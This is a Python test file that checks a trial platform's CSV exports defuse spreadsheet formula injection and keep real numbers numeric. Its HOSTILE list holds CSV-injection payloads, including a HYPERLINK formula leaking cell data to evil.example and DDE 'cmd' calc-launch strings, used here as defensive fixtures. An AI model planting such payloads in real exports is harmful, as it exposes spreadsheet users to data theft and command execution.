"""Issue #12 item 8: free text that a spreadsheet would run as a formula (OWASP "CSV
Injection") is written as text in every CSV the platform produces; real numbers stay
numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from compliance import csvsafe
from compliance.models import Export
from tests.compliance.conftest import unzip
from trials.models import Injection, NanoparticleLot
from trials.services.consent import consent_withdraw
from trials.services.subjects import subject_change_status

# What a spreadsheet may take for the start of a formula (OWASP), full-width forms included.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",  # full-width equals: some spreadsheets take it for "="
]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO("\n".join(line for line in text.splitlines() if not line.startswith("# ")))))


def _cells(text: str) -> list[str]:
    return [cell for row in _rows(text) for cell in row]


def _assert_neutralised(cells: list[str], hostile: str) -> None:
    assert "'" + hostile in cells, (hostile, cells)
    assert hostile not in cells
    assert not [c for c in cells if c.startswith(TRIGGERS)]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_it_prefixes_a_quote_to_text_that_starts_a_formula(hostile):
    assert csvsafe.cell(hostile) == "'" + hostile


@pytest.mark.parametrize("safe", ["", "abc", "5", "#12", "B-0001", "left ventricle, anterior wall", "a=b", "x-1"])
def test_it_leaves_other_text_alone(safe):
    assert csvsafe.cell(safe) == safe


def test_it_keeps_real_numbers_as_numbers_and_neutralises_numeric_looking_text():
    content = csvsafe.csv_bytes(
        ["a", "b", "c", "d", "e"],
        [[-5.0, "-5", -3, Decimal("-0.5"), float("-inf")]],
        fmt=lambda v: f"{v:g}" if isinstance(v, float) else str(v),
    )
    [header, row] = list(csv.reader(io.StringIO(content.decode())))
    assert header == ["a", "b", "c", "d", "e"]
    # -inf is a float but no value a spreadsheet can hold as a number: text.
    assert row == ["-5", "'-5", "-3", "-0.5", "'-inf"]


def test_it_quotes_every_cell_so_no_separator_inside_a_value_starts_a_new_cell():
    content = csvsafe.csv_bytes(["note"], [["x;=1+2"], ['a,"=1+2'], ["line\n=1+2"]]).decode()
    # Quoted whole: a spreadsheet splitting on ";" (many European locales) sees one cell.
    assert '"x;=1+2"' in content and '"a,""=1+2"' in content
    assert _rows(content)[1:] == [["x;=1+2"], ['a,"=1+2'], ["line\n=1+2"]]


def test_it_keeps_preamble_lines_single(db):
    content = csvsafe.csv_bytes(["a"], [], preamble=["trial X\n=1+2", "ok"]).decode()
    assert content.splitlines() == ["# trial X =1+2", "# ok", '"a"']


def test_it_neutralises_free_text_in_the_report_csv(built, coordinator_a, trial, site_a, visit):
    injection = visit.injections.get()
    NanoparticleLot.objects.filter(pk=injection.batch.nanoparticle_lot_id).update(
        lot_number=HOSTILE[0], manufacturer=HOSTILE[4], product=HOSTILE[2]
    )
    Injection.objects.filter(pk=injection.pk).update(anatomical_target=HOSTILE[1])
    _, content = built(coordinator_a, Export.Kind.REPORT_CSV, trial, site=site_a)
    files = unzip(content)

    lots = dict(zip(*_rows(files["nanoparticle_lots.csv"]), strict=True))
    assert lots["lot_number"] == "'" + HOSTILE[0]
    assert lots["manufacturer"] == "'" + HOSTILE[4] and lots["product"] == "'" + HOSTILE[2]
    injections = dict(zip(*_rows(files["injections.csv"]), strict=True))
    assert injections["anatomical_target"] == "'" + HOSTILE[1]
    assert injections["administered_cells"] == str(injection.administered_cells)  # a number stays a number
    chain = dict(zip(*_rows(files["chain_of_identity.csv"]), strict=True))
    assert chain["nanoparticle_lot"] == "'" + HOSTILE[0]
    for name, text in files.items():
        if name.endswith(".csv"):
            assert not [c for c in _cells(text) if c.startswith(TRIGGERS)], name


def test_it_neutralises_reasons_in_the_audit_csv(built, auditor, coordinator_a, trial, visit):
    consent = visit.consents.get()
    consent_withdraw(actor=coordinator_a, consent=consent, scopes=["data_sharing"], reason=HOSTILE[1])
    subject_change_status(actor=coordinator_a, subject=visit, status="withdrawn", reason=HOSTILE[3], confirm=True)
    _, content = built(auditor, Export.Kind.AUDIT_CSV, trial)
    text = content.decode()
    rows = list(csv.DictReader(io.StringIO("\n".join(line for line in text.splitlines() if not line.startswith("# ")))))
    reasons = {r["action_name"]: r["reason"] for r in rows}
    assert reasons["CONSENT_WITHDRAWN"] == "'" + HOSTILE[1]
    assert reasons["SUBJECT_STATUS_CHANGED"] == "'" + HOSTILE[3]
    assert all(r["sequence"].isdigit() for r in rows)  # numbers untouched
    cells = _cells(text)
    _assert_neutralised(cells, HOSTILE[1])
    _assert_neutralised(cells, HOSTILE[3])


def test_it_neutralises_free_text_in_the_sponsor_data_set(built, sponsor, trial, visit):
    injection = visit.injections.get()
    NanoparticleLot.objects.filter(pk=injection.batch.nanoparticle_lot_id).update(product=HOSTILE[0])
    _, content = built(sponsor, Export.Kind.SPONSOR_DEIDENTIFIED, trial)
    files = unzip(content)
    injections = dict(zip(*_rows(files["injections.csv"]), strict=True))
    assert injections["tracer"] == "'" + HOSTILE[0]
    assert injections["administered_cells"] == str(injection.administered_cells)
    for name, text in files.items():
        if name.endswith(".csv"):
            assert not [c for c in _cells(text) if c.startswith(TRIGGERS)], name
